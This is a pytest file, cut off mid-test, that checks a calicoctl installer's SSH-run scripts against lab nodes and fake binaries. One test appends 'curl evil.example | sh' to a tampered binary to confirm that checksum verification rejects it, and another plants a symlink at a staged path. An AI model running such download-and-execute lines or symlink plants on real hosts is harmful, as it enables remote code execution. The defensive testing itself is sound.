"""The node scripts, exactly as NodeSetup sends them, run over real SSH against sshd hosts in namespaces.

The hosts and the HTTP mirror come from tests/sshhosts.py. The mirror serves fake calicoctl binaries:
small shell scripts that print what `calicoctl version` prints.
"""

from __future__ import annotations

import os
import platform
import pwd
import re
import shutil
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from components import nodes, versions
from components.settings import Node, Settings, parse_settings
from components.stackconfig import apply_defaults, load_schema
from tests.conftest import SHARED, SHARED_MISSING_REASON, load_shared_cases
from tests.sshhosts import Lab, Mirror, NodeSpec, Result, missing_requirements, start_lab

ARCH = {"x86_64": "amd64", "aarch64": "arm64", "ppc64le": "ppc64le", "s390x": "s390x"}[platform.machine()]
CALICOCTL = "/usr/local/bin/calicoctl"
# Where the install keeps a calicoctl that it found and did not install.
BACKUP = f"{CALICOCTL}.pre-calico-pulumi"

SPECS = [
    NodeSpec("node-a", control_plane=True),
    NodeSpec("node-b", login="sudo", extra_address="203.0.113.5/24", cni_files=("10-containerd-net.conflist",)),
    NodeSpec("node-pw", login="password"),
    NodeSpec("node-armv7", machine="armv7l"),
    NodeSpec("node-novxlan", modules=("ipip",)),
    NodeSpec("node-down", reachable=False),
]


def fake_calicoctl(reported_version: str) -> bytes:
    """Return a stand-in calicoctl that reports `reported_version` as its client version."""
    return (
        "#!/bin/sh\n"
        f"# Test stand-in for calicoctl {reported_version}: prints what `calicoctl version` prints.\n"
        '[ "$1" = version ] || exit 1\n'
        f'echo "Client Version:    {reported_version}"\n'
        'echo "Git commit:        0000000"\n'
        "if grep -qs 'datastoreType: kubernetes' /etc/calico/calicoctl.cfg; then\n"
        f'    echo "Cluster Version:   {reported_version}"\n'
        '    echo "Cluster Type:      k8s,bgp,kubeadm,kdd"\n'
        "    exit 0\n"
        "fi\n"
        'echo "Unable to retrieve Cluster Version or Type: no datastore config"\n'
        "exit 1\n"
    ).encode()


def require_lab_host() -> None:
    """Skip the test when this machine cannot run the SSH lab, except in CI, where that is a failure."""
    reason = missing_requirements()
    if reason:
        if os.environ.get("CI"):
            pytest.fail(f"the SSH tests must run in CI: {reason}")
        pytest.skip(reason)


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    require_lab_host()
    started = start_lab(SPECS)
    try:
        yield started
    finally:
        started.close()


@pytest.fixture
def mirror(lab: Lab) -> Mirror:
    assert lab.mirror is not None
    return lab.mirror


@pytest.fixture(autouse=True)
def fresh_nodes(request: pytest.FixtureRequest) -> None:
    """Give every test that uses the lab nodes without a calicoctl, config or install record."""
    if "lab" in request.fixturenames:
        for node in request.getfixturevalue("lab").nodes.values():
            node.reset()


@pytest.fixture(scope="module")
def binaries(lab: Lab) -> dict[str, str]:
    """Serve one fake calicoctl per release; return the sha256 of each by release."""
    assert lab.mirror is not None
    shas = {}
    for version in ("v3.31.7", "v3.32.1", "v3.29.7"):
        shas[version] = lab.mirror.put(f"calicoctl/{version}/calicoctl-linux-{ARCH}", fake_calicoctl(version))
    return shas


def make_settings(lab: Lab, **values: Any) -> Settings:
    """Return validated settings for every lab node, with VXLAN and `values` on top."""
    schema = load_schema()
    stack: dict[str, Any] = {
        "podCidr": "10.244.0.0/16",
        "encapsulation": "VXLAN",
        "nodes": [{"name": node.name, "host": node.address, "user": node.user} for node in lab.nodes.values()],
    }
    stack.update(values)
    return parse_settings(apply_defaults(schema, stack), declared_keys=schema)


def mirror_settings(lab: Lab, mirror: Mirror, version: str, sha256: str, **values: Any) -> Settings:
    url = f"{mirror.url}/calicoctl/{{version}}/calicoctl-linux-{{arch}}"
    return make_settings(lab, version=version, calicoctlUrl=url, calicoctlSha256={ARCH: sha256}, **values)


def settings_node(settings: Settings, name: str) -> Node:
    return next(node for node in settings.nodes if node.name == name)


def run_preflight(lab: Lab, name: str, settings: Settings, environment: str = "") -> Result:
    """Run the preflight script on node `name`; `environment` is prepended as `env` assignments."""
    script = nodes.preflight_script(settings, settings_node(settings, name))
    command = f"/usr/bin/env {environment} {nodes.PREFLIGHT_COMMAND}" if environment else nodes.PREFLIGHT_COMMAND
    return lab.ssh(lab.node(name), command, script)


def busybox_program() -> str:
    """Return the path of busybox; skip without it, except in CI, where that is a failure."""
    program = shutil.which("busybox")
    if program is None:
        reason = "busybox is not installed (apt-get install busybox)"
        if os.environ.get("CI"):
            pytest.fail(f"the BusyBox wget tests must run in CI: {reason}")
        pytest.skip(reason)
    return program


def run_install(lab: Lab, name: str, settings: Settings, environment: str = "") -> Result:
    """Run the install script on node `name`; `environment` is prepended as `env` assignments."""
    script = nodes.install_script(settings, settings_node(settings, name), ARCH)
    command = f"/usr/bin/env {environment} {nodes.INSTALL_COMMAND}" if environment else nodes.INSTALL_COMMAND
    return lab.ssh(lab.node(name), command, script)


def run_remove(lab: Lab, name: str, settings: Settings) -> Result:
    # pulumi-command sends the stored stdin (the install script) on a delete too, so the test does as well.
    node = settings_node(settings, name)
    command = nodes.remove_command(settings, node, ARCH)
    return lab.ssh(lab.node(name), command, nodes.install_script(settings, node, ARCH))


def facts_of(result: Result) -> dict[str, Any]:
    node = Node("lab-node", "198.51.100.10", "root", 22, None)
    return nodes.parse_facts(node, result.stdout)


def file_sha256(lab: Lab, name: str, node_path: str) -> str:
    import hashlib

    return hashlib.sha256(lab.node(name).path(node_path).read_bytes()).hexdigest()


def staged_files(lab: Lab, name: str) -> list[str]:
    return sorted(path.name for path in lab.node(name).path("/usr/local/bin").iterdir() if path.name.startswith("."))


def sudo_calls(script: str) -> list[str]:
    """Return every use of sudo in the code of `script`, with the word after it.

    Comments and double-quoted strings (the messages) are dropped first, so prose about sudo is not a call,
    and neither is a value such as `privilege=sudo`.
    """
    calls = []
    for line in script.splitlines():
        code = re.sub(r'"(?:[^"\\]|\\.)*"', '""', line)
        code = code.split("#", 1)[0]
        matches = re.findall(r"(?:command -v )?(?<![=\w-])sudo\b(?:\s+\S+)?", code)
        calls += [" ".join(match.split()) for match in matches]
    return calls


def assert_sudo_never_prompts(script: str) -> None:
    """Fail unless every sudo call in `script` is `sudo -n`, which fails instead of reading a password."""
    calls = sudo_calls(script)
    runs = [call for call in calls if not call.startswith("command -v")]
    assert runs, f"no sudo call found in the script, so the check below would prove nothing: {calls}"
    for call in runs:
        assert call.startswith("sudo -n"), f"{call!r} may prompt for a password or read one from stdin"
    assert "SUDO_ASKPASS" not in script
    assert "sudo -S" not in script


# --- The lab itself ------------------------------------------------------------------------------------


# This test runs before the module's lab starts, so the first lab here is the one that finds the host
# without /run/sshd and the node mountpoints, as on a fresh machine.
def test_closing_lab_spares_other_lab() -> None:
    require_lab_host()
    first = start_lab([NodeSpec("solo-a")])
    try:
        second = start_lab([NodeSpec("solo-b", control_plane=True)])
    finally:
        first.close()
    try:
        result = second.ssh(second.node("solo-b"), "cat /etc/kubernetes/admin.conf")

        assert result.returncode == 0, result.output
        assert "test stand-in for kubeadm's admin.conf" in result.stdout
    finally:
        second.close()


# --- Preflight -----------------------------------------------------------------------------------------


def test_preflight_reports_facts_of_root_node(lab: Lab) -> None:
    result = run_preflight(lab, "node-a", make_settings(lab))

    assert result.returncode == 0, result.output
    facts = facts_of(result)
    assert facts["node"] == "node-a"
    assert facts["architecture"] == ARCH
    assert facts["privilege"] == "root"
    assert facts["interface"] == "eth0"
    assert facts["interfaceMtu"] == 1500
    assert facts["interfaceAddresses"] == [f"{lab.node('node-a').address}/24"]
    assert facts["kernelModule"] == "vxlan"
    assert facts["kernelModuleState"] == "loaded"
    assert facts["adminConf"] is True
    assert facts["foreignCniFiles"] == []
    assert facts["problems"] == []
    assert facts["warnings"] == []


def test_preflight_sudo_user_with_two_interfaces(lab: Lab) -> None:
    result = run_preflight(lab, "node-b", make_settings(lab))

    assert result.returncode == 0, result.output
    facts = facts_of(result)
    assert facts["privilege"] == "sudo"
    assert facts["adminConf"] is False
    assert [entry["name"] for entry in facts["upInterfaces"] if entry["addresses"]] == ["eth0", "eth1"]
    assert facts["firstFound"] == {"interface": "eth0", "address": lab.node("node-b").address}
    assert facts["foreignCniFiles"] == ["10-containerd-net.conflist"]
    warnings = "\n".join(facts["warnings"])
    assert "first-found method would pick eth0" in warnings
    assert "kubernetes-internal-ip or interface=<name>" in warnings
    assert "10-containerd-net.conflist" in warnings
    assert "WARNING: " in result.stderr


def test_preflight_autodetection_set_no_warning(lab: Lab) -> None:
    result = run_preflight(lab, "node-b", make_settings(lab, ipAutodetectionMethod="interface=eth0"))

    assert result.returncode == 0, result.output
    assert not any("first-found" in warning for warning in facts_of(result)["warnings"])


def test_preflight_armv7_fails(lab: Lab) -> None:
    result = run_preflight(lab, "node-armv7", make_settings(lab))

    assert result.returncode == 1
    assert "Calico publishes no images for 32-bit ARM; install a 64-bit OS on node-armv7" in result.stderr
    assert "armv7l" in result.stderr


def test_preflight_sudo_password_fails_fast(lab: Lab) -> None:
    settings = make_settings(lab)
    user = lab.node("node-pw").user

    result = run_preflight(lab, "node-pw", settings)

    assert result.returncode == 1
    assert f"passwordless sudo required for {user} on node-pw" in result.stderr
    assert result.seconds < 10, f"the sudo check took {result.seconds:.1f} s"
    assert "sudo" not in nodes.PREFLIGHT_COMMAND
    assert_sudo_never_prompts(nodes.preflight_script(settings, settings_node(settings, "node-pw")))


def test_install_sudo_password_fails_fast(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    requests_before = len(mirror.requests())

    result = run_install(lab, "node-pw", settings)

    assert result.returncode == 1
    assert f"passwordless sudo required for {lab.node('node-pw').user} on node-pw" in result.stderr
    assert result.seconds < 10
    assert len(mirror.requests()) == requests_before
    assert "sudo" not in nodes.INSTALL_COMMAND
    assert_sudo_never_prompts(nodes.install_script(settings, settings_node(settings, "node-pw"), ARCH))
    assert_sudo_never_prompts(nodes.remove_command(settings, settings_node(settings, "node-pw"), ARCH))


def test_preflight_node_mtu_smaller_than_config(lab: Lab) -> None:
    result = run_preflight(lab, "node-a", make_settings(lab, nodeMtu=9000))

    assert result.returncode == 1
    assert "interface eth0 of node-a has MTU 1500, smaller than calico:nodeMtu = 9000" in result.stderr
    assert "pulumi config set calico:nodeMtu 1500" in result.stderr


def test_preflight_vxlan_module_missing(lab: Lab) -> None:
    result = run_preflight(lab, "node-novxlan", make_settings(lab, encapsulation="VXLAN"))

    assert result.returncode == 1
    assert "kernel module vxlan, needed by calico:encapsulation = VXLAN" in result.stderr
    assert "node-novxlan" in result.stderr
    assert "extra kernel modules package" in result.stderr
    assert "pulumi config set calico:encapsulation IPIP" in result.stderr
    assert facts_of(result)["kernelModuleState"] == "missing"


def test_preflight_ipip_module_missing_suggests_vxlan(lab: Lab) -> None:
    result = run_preflight(lab, "node-a", make_settings(lab, encapsulation="IPIP"))

    assert result.returncode == 1
    assert "kernel module ipip, needed by calico:encapsulation = IPIP" in result.stderr
    assert "pulumi config set calico:encapsulation VXLAN" in result.stderr


def test_preflight_no_encapsulation_needs_no_module(lab: Lab) -> None:
    result = run_preflight(lab, "node-novxlan", make_settings(lab, encapsulation="None"))

    assert result.returncode == 0, result.output
    assert facts_of(result)["kernelModule"] == ""


def test_preflight_node_address_inside_pod_cidr(lab: Lab) -> None:
    # /29 blocks give the /24 pool enough blocks for the lab's six nodes.
    result = run_preflight(lab, "node-b", make_settings(lab, podCidr="203.0.113.0/24", blockSize=29))

    assert result.returncode == 1
    assert "address 203.0.113.5 of interface eth1 on node-b lies inside calico:podCidr = 203.0.113.0/24" in (
        result.stderr
    )


def test_preflight_no_calicoctl_checksum(lab: Lab) -> None:
    result = run_preflight(lab, "node-a", make_settings(lab, version="v3.21.0"))

    assert result.returncode == 1
    assert f"no sha256 is known for calicoctl v3.21.0 linux-{ARCH}" in result.stderr
    assert f"calico:calicoctlSha256.{ARCH}" in result.stderr


def test_preflight_failure_spares_other_nodes(lab: Lab) -> None:
    settings = make_settings(lab)

    with ThreadPoolExecutor() as pool:
        results = dict(
            zip(
                ["node-a", "node-armv7"],
                pool.map(lambda name: run_preflight(lab, name, settings), ["node-a", "node-armv7"]),
                strict=True,
            )
        )

    assert results["node-a"].returncode == 0, results["node-a"].output
    assert results["node-armv7"].returncode == 1
    assert results["node-armv7"].stderr.strip().splitlines()[-1].startswith("ERROR: Calico publishes no images")


def test_preflight_sha256sum_missing(lab: Lab) -> None:
    commands = lab.command_directory("no-sha256sum", hidden={"sha256sum"})

    result = run_preflight(lab, "node-a", make_settings(lab), f"PATH={commands}")

    assert result.returncode == 1
    assert "sha256sum is not installed on node-a" in result.stderr
    assert "apt-get install coreutils" in result.stderr


def test_preflight_curl_and_wget_missing(lab: Lab) -> None:
    commands = lab.command_directory("no-download", hidden={"curl", "wget"})

    result = run_preflight(lab, "node-a", make_settings(lab), f"PATH={commands}")

    assert result.returncode == 1
    assert "neither curl nor wget is installed on node-a" in result.stderr
    assert "apt-get install curl" in result.stderr
    assert facts_of(result)["downloader"] == ""


def test_preflight_reports_busybox_wget(lab: Lab) -> None:
    commands = lab.command_directory("busybox-wget", hidden={"curl", "wget"}, links={"wget": busybox_program()})

    result = run_preflight(lab, "node-a", make_settings(lab), f"PATH={commands}")

    assert result.returncode == 0, result.output
    assert facts_of(result)["downloader"] == "busybox wget"


@pytest.mark.parametrize(
    ("mode", "owner", "found"),
    [
        (0o1777, "root", "has mode drwxrwxrwt"),
        (0o775, "root", "has mode drwxrwxr-x"),
        (0o755, "sudo", "is owned by uid"),
    ],
    ids=["other-writable", "group-writable", "user-owned"],
)
def test_preflight_unsafe_install_dir(lab: Lab, mode: int, owner: str, found: str) -> None:
    directory = lab.node("node-a").path("/usr/local/bin")
    uid = 0 if owner == "root" else pwd.getpwnam(lab.node("node-b").user).pw_uid
    try:
        directory.chmod(mode)
        os.chown(directory, uid, 0)
        result = run_preflight(lab, "node-a", make_settings(lab))
    finally:
        directory.chmod(0o755)
        os.chown(directory, 0, 0)

    assert result.returncode == 1
    assert "calico:calicoctlInstallDir = /usr/local/bin on node-a" in result.stderr
    assert f"/usr/local/bin {found}" in result.stderr
    assert "chown root:root /usr/local/bin && chmod go-w /usr/local/bin" in result.stderr


def test_preflight_missing_install_dir(lab: Lab) -> None:
    result = run_preflight(lab, "node-a", make_settings(lab, calicoctlInstallDir="/usr/local/bin/missing"))

    assert result.returncode == 1
    assert "calico:calicoctlInstallDir = /usr/local/bin/missing does not exist on node-a" in result.stderr


def test_unreachable_node_fails_within_dial_timeout(lab: Lab) -> None:
    node = lab.node("node-down")
    timeout = nodes.PER_DIAL_TIMEOUT_SECONDS

    result = lab.ssh(node, nodes.PREFLIGHT_COMMAND, "", connect_timeout=timeout)

    assert result.returncode == 255
    assert node.address in result.stderr
    assert "timed out" in result.stderr
    assert timeout - 1 <= result.seconds <= timeout + 3, f"took {result.seconds:.1f} s for a {timeout} s dial timeout"


# --- Install -------------------------------------------------------------------------------------------


def test_install_two_nodes_then_rerun(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    before = len(mirror.requests())

    with ThreadPoolExecutor() as pool:
        first = list(pool.map(lambda name: run_install(lab, name, settings), ["node-a", "node-b"]))

    for result in first:
        assert result.returncode == 0, result.output
    downloads = mirror.requests()[before:]
    assert sorted(downloads) == [f"GET /calicoctl/v3.31.7/calicoctl-linux-{ARCH} 200"] * 2
    for name in ("node-a", "node-b"):
        assert file_sha256(lab, name, CALICOCTL) == binaries["v3.31.7"]
        assert lab.node(name).path(CALICOCTL).stat().st_mode & 0o777 == 0o755
        assert staged_files(lab, name) == []
    config = lab.node("node-a").path(nodes.CALICOCTL_CONFIG).read_text()
    assert "datastoreType: kubernetes" in config
    assert f"kubeconfig: {nodes.KUBECONFIG_PATH}" in config
    assert "Cluster Type:      k8s,bgp,kubeadm,kdd" in first[0].stdout
    assert not lab.node("node-b").path(nodes.CALICOCTL_CONFIG).exists()
    assert f"{nodes.KUBECONFIG_PATH} does not exist on node-b" in first[1].stdout

    before_second = len(mirror.requests())
    second = [run_install(lab, name, settings) for name in ("node-a", "node-b")]

    for result in second:
        assert result.returncode == 0, result.output
        assert "nothing downloaded" in result.stdout
    assert mirror.requests()[before_second:] == []


def test_install_with_busybox_wget(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    # BusyBox 1.35 of Debian 12 has no wget -T and crashes when given one.
    commands = lab.command_directory("install-busybox", hidden={"curl", "wget"}, links={"wget": busybox_program()})
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    before = len(mirror.requests())

    result = run_install(lab, "node-a", settings, f"PATH={commands}")

    assert result.returncode == 0, result.output
    assert mirror.requests()[before:] == [f"GET /calicoctl/v3.31.7/calicoctl-linux-{ARCH} 200"]
    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.31.7"]


def test_install_version_change_reinstalls(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    old = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    new = mirror_settings(lab, mirror, "v3.32.1", binaries["v3.32.1"])
    assert run_install(lab, "node-a", old).returncode == 0
    before = len(mirror.requests())

    result = run_install(lab, "node-a", new)

    assert result.returncode == 0, result.output
    assert mirror.requests()[before:] == [f"GET /calicoctl/v3.32.1/calicoctl-linux-{ARCH} 200"]
    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.32.1"]
    assert nodes.install_triggers(old, ARCH) != nodes.install_triggers(new, ARCH)


def test_replacement_keeps_new_install(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    # Pulumi replaces a resource by creating the new one first, then deleting the old one.
    old = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    new = mirror_settings(lab, mirror, "v3.32.1", binaries["v3.32.1"])
    assert run_install(lab, "node-a", old).returncode == 0
    assert run_install(lab, "node-a", new).returncode == 0

    result = run_remove(lab, "node-a", old)

    assert result.returncode == 0, result.output
    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.32.1"]
    assert lab.node("node-a").path(nodes.CALICOCTL_CONFIG).exists()


def test_replacement_with_other_dir_spelling(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    # Two spellings of one directory, as /bin and /usr/bin are on a merged-/usr system. The link lies in
    # /usr/local/bin because that is the only directory on PATH each lab node has for itself.
    node = lab.node("node-a")
    node.path("/usr/local/bin/same").symlink_to("/usr/local/bin")
    old = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    new = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"], calicoctlInstallDir="/usr/local/bin/same")
    assert run_install(lab, "node-a", old).returncode == 0
    assert run_install(lab, "node-a", new).returncode == 0

    replaced = run_remove(lab, "node-a", old)

    assert replaced.returncode == 0, replaced.output
    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.31.7"]
    assert node.path(nodes.INSTALL_RECORD).exists()

    destroyed = run_remove(lab, "node-a", new)

    assert destroyed.returncode == 0, destroyed.output
    assert not node.path(CALICOCTL).exists()
    assert not node.path(nodes.INSTALL_RECORD).exists()
    assert not node.path(nodes.CALICOCTL_CONFIG).exists()


def test_remove_spares_file_recorded_twice(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    # A record that names one file under two spellings, with a line of another install for the second.
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    node = lab.node("node-a")
    node.path("/usr/local/bin/same").symlink_to("/usr/local/bin")
    assert run_install(lab, "node-a", settings).returncode == 0
    with node.path(nodes.INSTALL_RECORD).open("a") as record:
        record.write(f"binary /usr/local/bin/same/calicoctl {'0' * 16} {binaries['v3.31.7']}\n")

    result = run_remove(lab, "node-a", settings)

    assert result.returncode == 0, result.output
    assert "belongs to another install of this program now" in result.stdout
    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.31.7"]
    assert f"binary /usr/local/bin/same/calicoctl {'0' * 16}" in node.path(nodes.INSTALL_RECORD).read_text()


def test_existing_binary_restored_on_destroy(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    node = lab.node("node-a")
    node.path(CALICOCTL).write_bytes(fake_calicoctl("v3.29.7"))
    node.path(CALICOCTL).chmod(0o755)
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])

    installed = run_install(lab, "node-a", settings)

    assert installed.returncode == 0, installed.output
    assert f"moved the existing {CALICOCTL}, which this program did not install, to {BACKUP}" in installed.stdout
    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.31.7"]
    assert node.path(BACKUP).read_bytes() == fake_calicoctl("v3.29.7")

    destroyed = run_remove(lab, "node-a", settings)

    assert destroyed.returncode == 0, destroyed.output
    assert f"restored {CALICOCTL} from {BACKUP}" in destroyed.stdout
    assert node.path(CALICOCTL).read_bytes() == fake_calicoctl("v3.29.7")
    assert not node.path(BACKUP).exists()
    assert not node.path(nodes.INSTALL_RECORD).exists()


def test_identical_existing_binary_kept(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    node = lab.node("node-a")
    node.path(CALICOCTL).write_bytes(fake_calicoctl("v3.31.7"))
    node.path(CALICOCTL).chmod(0o755)
    own_inode = node.path(CALICOCTL).stat().st_ino
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    before = len(mirror.requests())

    installed = run_install(lab, "node-a", settings)

    assert installed.returncode == 0, installed.output
    assert mirror.requests()[before:] == []
    assert node.path(BACKUP).stat().st_ino == own_inode
    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.31.7"]

    destroyed = run_remove(lab, "node-a", settings)

    assert destroyed.returncode == 0, destroyed.output
    # The file back in place is the one the node had, not a copy the install made.
    assert node.path(CALICOCTL).stat().st_ino == own_inode
    assert not node.path(BACKUP).exists()


def test_existing_binary_survives_upgrade(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    node = lab.node("node-a")
    node.path(CALICOCTL).write_bytes(fake_calicoctl("v3.29.7"))
    old = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    new = mirror_settings(lab, mirror, "v3.32.1", binaries["v3.32.1"])
    assert run_install(lab, "node-a", old).returncode == 0
    assert run_install(lab, "node-a", new).returncode == 0

    replaced = run_remove(lab, "node-a", old)

    assert replaced.returncode == 0, replaced.output
    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.32.1"]
    assert node.path(BACKUP).read_bytes() == fake_calicoctl("v3.29.7")

    destroyed = run_remove(lab, "node-a", new)

    assert destroyed.returncode == 0, destroyed.output
    assert node.path(CALICOCTL).read_bytes() == fake_calicoctl("v3.29.7")
    assert not node.path(BACKUP).exists()


def test_existing_backup_blocks_install(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    node = lab.node("node-a")
    node.path(CALICOCTL).write_bytes(fake_calicoctl("v3.29.7"))
    node.path(BACKUP).write_bytes(fake_calicoctl("v3.27.5"))
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])

    result = run_install(lab, "node-a", settings)

    assert result.returncode == 1
    assert f"{CALICOCTL} and {BACKUP} both exist on node-a" in result.stderr
    assert node.path(CALICOCTL).read_bytes() == fake_calicoctl("v3.29.7")
    assert node.path(BACKUP).read_bytes() == fake_calicoctl("v3.27.5")
    assert not node.path(nodes.INSTALL_RECORD).exists()


def test_tampered_binary_leaves_old_one(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    assert run_install(lab, "node-a", mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])).returncode == 0
    record_before = lab.node("node-a").path(nodes.INSTALL_RECORD).read_text()
    tampered_path = f"calicoctl/v3.24.0/calicoctl-linux-{ARCH}"
    genuine_sha = mirror.put(tampered_path, fake_calicoctl("v3.24.0"))
    mirror.put(tampered_path, fake_calicoctl("v3.24.0") + b"curl evil.example | sh\n")

    result = run_install(lab, "node-a", mirror_settings(lab, mirror, "v3.24.0", genuine_sha))

    assert result.returncode == 1
    assert "sha256 mismatch" in result.stderr
    assert f"expected {genuine_sha} (calico:calicoctlSha256.{ARCH})" in result.stderr
    assert f"{CALICOCTL} is unchanged" in result.stderr
    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.31.7"]
    assert staged_files(lab, "node-a") == []
    assert lab.node("node-a").path(nodes.INSTALL_RECORD).read_text() == record_before


def test_wrong_client_version_leaves_old_one(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    assert run_install(lab, "node-a", mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])).returncode == 0
    sha = mirror.put(f"calicoctl/v3.27.5/calicoctl-linux-{ARCH}", fake_calicoctl("v3.29.7"))

    result = run_install(lab, "node-a", mirror_settings(lab, mirror, "v3.27.5", sha))

    assert result.returncode == 1
    assert "reports client version 'v3.29.7', not calico:version = v3.27.5" in result.stderr
    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.31.7"]
    assert staged_files(lab, "node-a") == []


def test_client_version_without_leading_v(lab: Lab, mirror: Mirror) -> None:
    sha = mirror.put(f"calicoctl/v3.22.1/calicoctl-linux-{ARCH}", fake_calicoctl("3.22.1"))

    result = run_install(lab, "node-a", mirror_settings(lab, mirror, "v3.22.1", sha))

    assert result.returncode == 0, result.output
    assert file_sha256(lab, "node-a", CALICOCTL) == sha


def test_no_checksum_installs_nothing(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    url = f"{mirror.url}/calicoctl/{{version}}/calicoctl-linux-{{arch}}"
    settings = make_settings(lab, version="v3.32.1", calicoctlUrl=url)
    before = len(mirror.requests())

    result = run_install(lab, "node-a", settings)

    assert result.returncode == 1
    assert f"pulumi config set --path calico:calicoctlSha256.{ARCH}" in result.stderr
    assert mirror.requests()[before:] == []
    assert not lab.node("node-a").path(CALICOCTL).exists()


def test_release_sha256sums_checksum(
    lab: Lab, mirror: Mirror, binaries: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # v3.32.1 has no pin, so the upstream download is checked against the release's SHA256SUMS; the
    # mirror serves as the release.
    sums = f"{binaries['v3.32.1']}  calicoctl-linux-{ARCH}\n{'0' * 64}  calicoctl-linux-s390x\n"
    mirror.put("calicoctl/v3.32.1/SHA256SUMS", sums.encode())
    monkeypatch.setattr(
        versions, "calicoctl_release_url", lambda v, a: f"{mirror.url}/calicoctl/{v}/calicoctl-linux-{a}"
    )
    monkeypatch.setattr(
        versions, "calicoctl_release_sha256sums_url", lambda v: f"{mirror.url}/calicoctl/{v}/SHA256SUMS"
    )
    settings = make_settings(lab, version="v3.32.1")
    before = len(mirror.requests())

    first = run_install(lab, "node-a", settings)
    second = run_install(lab, "node-a", settings)

    assert first.returncode == 0, first.output
    assert "comes from the release's own SHA256SUMS" in first.stdout
    assert "not from a checksum pinned by this project" in first.stdout
    assert mirror.requests()[before:] == [
        "GET /calicoctl/v3.32.1/SHA256SUMS 200",
        f"GET /calicoctl/v3.32.1/calicoctl-linux-{ARCH} 200",
    ]
    assert second.returncode == 0, second.output
    assert "nothing downloaded" in second.stdout
    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.32.1"]


def test_existing_config_left_unchanged(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    own_config = "apiVersion: projectcalico.org/v3\nkind: CalicoAPIConfig\nspec:\n  datastoreType: etcdv3\n"
    lab.node("node-a").path(nodes.CALICOCTL_CONFIG).write_text(own_config)

    installed = run_install(lab, "node-a", settings)
    removed = run_remove(lab, "node-a", settings)

    assert installed.returncode == 0, installed.output
    assert f"left the existing {nodes.CALICOCTL_CONFIG} unchanged" in installed.stdout
    assert removed.returncode == 0, removed.output
    assert lab.node("node-a").path(nodes.CALICOCTL_CONFIG).read_text() == own_config


def plant_staged_link(lab: Lab, settings: Settings) -> Path:
    """Put a link at the staged name older installs used, aimed at a file of the node; return that file."""
    node = lab.node("node-a")
    victim = node.path("/etc/kubernetes/victim.conf")
    victim.write_text("must stay\n")
    staged = node.path(f"/usr/local/bin/.calicoctl.{nodes.install_id(settings, ARCH)}.new")
    staged.symlink_to("/etc/kubernetes/victim.conf")
    return victim


def test_install_rejects_writable_install_dir(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    directory = lab.node("node-a").path("/usr/local/bin")
    victim = plant_staged_link(lab, settings)
    try:
        directory.chmod(0o1777)
        result = run_install(lab, "node-a", settings)
    finally:
        directory.chmod(0o755)

    assert result.returncode == 1
    assert "calico:calicoctlInstallDir = /usr/local/bin on node-a: /usr/local/bin has mode drwxrwxrwt" in result.stderr
    assert victim.read_text() == "must stay\n"
    assert not lab.node("node-a").path(CALICOCTL).exists()


def test_install_ignores_planted_staged_link(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    victim = plant_staged_link(lab, settings)

    result = run_install(lab, "node-a", settings)

    assert result.returncode == 0, result.output
    assert victim.read_text() == "must stay\n"
    assert not lab.node("node-a").path(CALICOCTL).is_symlink()
    assert file_sha256(lab, "node-a", CALICOCTL) == binaries["v3.31.7"]


def test_install_unwritable_record_fails(lab: Lab, mirror: Mirror, binaries: dict[str, str]) -> None:
    settings = mirror_settings(lab, mirror, "v3.31.7", binaries["v3.31.7"])
    node = lab.node("node-b")
    # The node's /etc/calico becomes read-only in its own mount namespace only.
    remount = "sudo -n mount -o remount,bind,{} /etc/calico"
    assert lab.ssh(node, remount.format("ro")).returncode == 0
    try:
